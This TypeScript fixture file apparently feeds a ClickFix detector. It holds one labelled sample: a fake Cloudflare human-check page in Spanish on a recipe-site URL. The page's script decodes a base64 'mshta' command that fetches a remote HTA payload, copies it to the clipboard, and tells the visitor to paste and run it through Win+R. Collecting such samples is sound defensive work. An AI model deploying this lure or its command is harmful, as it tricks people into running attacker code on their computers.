import { htmlRoute, type Entry } from '../entry.js';
import { doc, jsRoute, okRoute, pngRoute } from '../parts/zd-kit.js';

/**
 * ClickFix pages seen in the region: fake "verify you are human" and "document viewer" fixes that put a
 * command on the clipboard and walk the visitor through Win+R, paste, Enter.
 */

export const entries: Entry[] = [
  {
    id: 'zd-click-verificacion-cloudflare-es',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://www.recetas-de-la-abuela.com.ar/empanadas-tucumanas/',
    body: doc({
      lang: 'es-AR',
      title: 'Un momento…',
      css: `body{font-family:system-ui,Arial;margin:0;background:#fff;color:#313131}.w{max-width:640px;margin:90px auto;padding:0 20px}.box{border:1px solid #e0e0e0;padding:16px;display:flex;align-items:center;gap:14px;width:300px;background:#fafafa}
.box input{width:24px;height:24px}#m{display:none;position:fixed;inset:0;background:#0008;align-items:center;justify-content:center}#m div{background:#fff;padding:24px;max-width:440px;border-radius:8px}.ft{font-size:12px;color:#888;margin-top:60px}`,
      body: `<div class="w"><h1>www.recetas-de-la-abuela.com.ar</h1><h2 style="font-weight:400">Verificá que sos un ser humano. Esto puede tardar unos segundos.</h2>
<label class="box"><input type="checkbox" id="c"> Verificá que sos humano</label><p>www.recetas-de-la-abuela.com.ar necesita revisar la seguridad de tu conexión antes de continuar.</p>
<div class="ft">Ray ID: 8e21f4c0ab3d91e2 · Rendimiento y seguridad de Cloudflare</div></div>
<div id="m"><div><h3>Verificación adicional requerida</h3><p>Para completar la verificación:</p><ol><li>Presioná <b>Win + R</b></li><li>Pegá con <b>Ctrl + V</b></li><li>Presioná <b>Enter</b></li></ol><p style="font-size:12px;color:#777">Ver. ID: 77412</p></div></div>
<script>(function(){var x='bXNodGEgaHR0cHM6Ly9jZG4tdmVyaWZ5LnJlY2V0YXMtZGUtbGEtYWJ1ZWxhLmNvbS5hci92LzgzMzEgICMgSSBhbSBub3QgYSByb2JvdCAtIHJlQ0FQVENIQSBJRDogNzc0MTI=';
document.getElementById('c').addEventListener('change',function(){navigator.clipboard.writeText(atob(x)).finally(function(){document.getElementById('m').style.display='flex'})})})();</script>`,
    }),
  },
];
